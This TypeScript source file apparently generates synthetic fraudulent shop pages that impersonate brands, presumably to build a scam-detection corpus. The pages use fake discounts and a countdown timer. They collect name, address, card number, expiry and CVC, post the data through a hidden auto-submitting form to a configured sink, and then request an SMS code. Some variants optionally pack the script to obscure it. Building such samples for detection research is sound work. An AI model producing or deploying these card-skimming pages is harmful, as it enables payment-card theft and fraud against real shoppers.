import type { Chance } from '../make/chance.ts'
import type { Made, Resource } from '../make/envelope.ts'
import { library, ownScript } from '../make/libraries.ts'
import { fraudPage } from '../make/made.ts'
import { scriptTag, whole } from './code/document.ts'
import { packed } from './code/packers.ts'
import { quoted } from './code/tree.ts'
import { fraudFamily } from './kit/fraud-family.ts'
import { kitUrl } from './kit/places.ts'
import { sinkOf } from './kit/sinks.ts'
import { GOODS, STORE_TALKS, type StoreTalk } from './words/store-words.ts'

interface Store {
  readonly talk: StoreTalk
  readonly goods: (typeof GOODS)[number]
  readonly sale: string
  /** The wares as a list of JavaScript. */
  readonly wares: string
  /** Statements that send the object `data`. */
  readonly send: string
}

function storeOf(chance: Chance): Store {
  const talk = chance.of(STORE_TALKS)
  const goods = chance.of(GOODS)
  const wares = goods.things.map((name, index) => {
    const price = (goods.price + chance.below(60)) * (talk.money === '¥' ? 150 : 1)
    const now = (price / (8 + chance.below(6))).toFixed(talk.money === '¥' ? 0 : 2)
    return {
      id: index + 1,
      name: `${goods.maker} ${name}`,
      was: price,
      now,
      img: `https://${goods.domain}/media/${chance.hex(8)}.jpg`,
      left: 1 + chance.below(6),
    }
  })
  const sink = sinkOf(chance)
  const send =
    sink.action === null
      ? sink.send
      : `var f=document.createElement("form");f.method="post";f.action=${quoted(sink.action)};for(var k in data){var i=document.createElement("input");i.type="hidden";i.name=k;i.value=data[k];f.appendChild(i)}document.body.appendChild(f);f.submit();`
  return {
    talk,
    goods,
    sale: chance.of(talk.sale),
    wares: JSON.stringify(wares).replaceAll('</', '<\\/'),
    send,
  }
}

const asksOf = ({ talk }: Store) =>
  talk.fields.map((label, index) => ({ label, name: ['name', 'address', 'cc', 'exp', 'cvc'][index] ?? 'x' }))

const AFTER = (store: Store) =>
  `function order(data){${store.send}document.getElementById("sum").innerHTML=${quoted(`<p>${store.talk.done}</p><label>${store.talk.code}<input name="sms" type="tel" maxlength="6"></label>`)}}`

type Way = (
  store: Store,
  url: string,
  chance: Chance,
) => { body: string; head?: string; resources?: readonly Resource[] }

/** Lists the wares, then the cart with its fields, by markup in strings. */
const plain: Way = (store, _url, chance) => {
  const { talk, wares } = store
  const fields = asksOf(store)
    .map(({ label, name }) => `<label>${label}<input name="${name}" class="in"></label>`)
    .join('')
  const code = `var W=${wares};${AFTER(store)}
function list(){document.getElementById("shop").innerHTML=W.map(function(w){return '<article><img src="'+w.img+'" alt=""><h3>'+w.name+'</h3><s>${talk.money}'+w.was+'</s> <b>${talk.money}'+w.now+'</b><p>'+${quoted(talk.left)}.replace("{n}",w.left)+'</p><button class="go" data-id="'+w.id+'">${talk.buy}</button></article>'}).join("")}
function cart(id){var w=W.filter(function(x){return x.id==id})[0];document.getElementById("shop").innerHTML='<h2>${talk.cart}</h2><p>'+w.name+' ${talk.money}'+w.now+'</p><form id="pay">'+${quoted(fields)}+'<button>${talk.pay}</button></form><div id="sum"></div>';document.getElementById("pay").onsubmit=function(e){e.preventDefault();var data={};new FormData(e.target).forEach(function(v,k){data[k]=v});order(data)}}
document.addEventListener("click",function(e){var b=e.target.closest("[data-id]");if(b)cart(b.getAttribute("data-id"))});list();${chance.maybe(0.4) ? 'if(location.search||history.length>0)setTimeout(function(){cart(1)},1200);' : ''}`
  return {
    body: `<div id="shop"></div>${scriptTag(chance.maybe(0.4) ? packed(code, 1, chance) : code)}`,
  }
}

const vue: Way = (store, url, chance) => {
  const { talk, wares } = store
  const lib = library('vue', url, chance)
  const fields = asksOf(store)
    .map(({ label, name }) => `<p><input v-model="f.${name}" placeholder="${label}" name="${name}"></p>`)
    .join('')
  const template = `<div v-if="!picked"><article v-for="w in wares" :key="w.id"><img :src="w.img"><h3>{{w.name}}</h3><s>${talk.money}{{w.was}}</s> <b>${talk.money}{{w.now}}</b><button class="go" @click="picked=w">${talk.buy}</button></article></div><form v-else @submit.prevent="order(f)"><h2>${talk.checkout}: {{picked.name}}</h2>${fields}<button>${talk.pay} ${talk.money}{{picked.now}}</button><div id="sum"></div></form>`
  const app = ownScript(
    url,
    `assets/index.${chance.hex(8)}.js`,
    `${AFTER(store)};Vue.createApp({data:()=>({wares:${wares},picked:null,f:{}}),methods:{order},template:${quoted(template)}}).mount("#app");`,
  )
  return { body: `<div id="app"></div>${lib.tag}${app.tag}`, resources: [lib.resource, app.resource] }
}

const react: Way = (store, url, chance) => {
  const { talk, wares } = store
  const libs = [library('react', url, chance), library('reactDom', url, chance)]
  const code = `const e=React.createElement,W=${wares},Q=${JSON.stringify(asksOf(store))};${AFTER(store)}
function Shop(){const[w,pick]=React.useState(null),[f,set]=React.useState({});
return w?e("form",{onSubmit:v=>{v.preventDefault();order(f)}},e("h2",null,${quoted(talk.checkout)}," ",w.name),...Q.map(q=>e("label",{key:q.name},q.label,e("input",{name:q.name,value:f[q.name]||"",onChange:v=>set({...f,[q.name]:v.target.value})}))),e("button",null,${quoted(talk.pay)}),e("div",{id:"sum"})):e("div",{className:"grid"},W.map(x=>e("article",{key:x.id},e("img",{src:x.img}),e("h3",null,x.name),e("s",null,"${talk.money}",x.was),e("b",null,"${talk.money}",x.now),e("button",{className:"go",onClick:()=>pick(x)},${quoted(talk.buy)}))))}
ReactDOM.createRoot(document.getElementById("root")).render(e(Shop));`
  return {
    body: `<div id="root"></div>${libs.map(({ tag }) => tag).join('')}${scriptTag(code)}`,
    resources: libs.map(({ resource }) => resource),
  }
}

const jquery: Way = (store, url, chance) => {
  const { talk, wares } = store
  const lib = library('jquery', url, chance)
  const code = `$(function(){var W=${wares},Q=${JSON.stringify(asksOf(store))};window.order=order;${AFTER(store)}
$.each(W,function(_,w){$("<article>").append($("<img>",{src:w.img}),$("<h3>").text(w.name),$("<s>").text("${talk.money}"+w.was),$("<b>").text("${talk.money}"+w.now),$("<button>",{"class":"go",text:${quoted(talk.buy)}}).on("click",function(){
var $f=$("<form>");$.each(Q,function(_,q){$f.append($("<label>").text(q.label).append($("<input>",{name:q.name})))});$f.append($("<button>").text(${quoted(talk.pay)})).on("submit",function(ev){ev.preventDefault();var data={};$.each($f.serializeArray(),function(_,p){data[p.name]=p.value});order(data)});$("#shop").empty().append($("<h2>").text(${quoted(talk.cart)}+": "+w.name),$f,$("<div id=sum>"))})).appendTo("#shop")})});`
  return { body: `<div id="shop"></div>${scriptTag(code)}`, head: lib.tag, resources: [lib.resource] }
}

function page(way: Way, chance: Chance): Made {
  const store = storeOf(chance)
  const { goods, sale, talk } = store
  const url = kitUrl(`${goods.maker} ${chance.of(['outlet', 'sale', 'shop', 'store'])}`, chance)
  const { body, head = '', resources } = way(store, url, chance)
  const mark = `<header><img src="https://${goods.domain}/logo.svg" alt="${goods.maker}"><h1>${sale}</h1><div id="clock">00:14:59</div></header>`
  const clock = scriptTag(
    'var left=899;setInterval(function(){left=left>0?left-1:899;document.getElementById("clock").textContent="00:"+String(Math.floor(left/60)).padStart(2,"0")+":"+String(left%60).padStart(2,"0")},1000);',
  )
  return fraudPage(
    url,
    whole({
      language: talk.language,
      title: chance.of([`${goods.maker} Outlet`, `${goods.maker} | ${sale}`, `${goods.maker} Official Sale`]),
      head: `<meta name="viewport" content="width=device-width">${chance.maybe(0.5) ? `<link rel="icon" href="https://${goods.domain}/favicon.ico">` : ''}<style>article{display:inline-block;width:220px;margin:10px}.in{display:block}</style>${head}`,
      body: `${mark}${body}${clock}<footer>© ${chance.of([2024, 2025, 2026])} ${goods.maker} · SSL</footer>`,
    }),
    resources,
  )
}

export const scriptedStore = fraudFamily(
  'scripted_store',
  [plain, plain, vue, react, jquery].map((way) => (chance: Chance) => page(way, chance)),
)
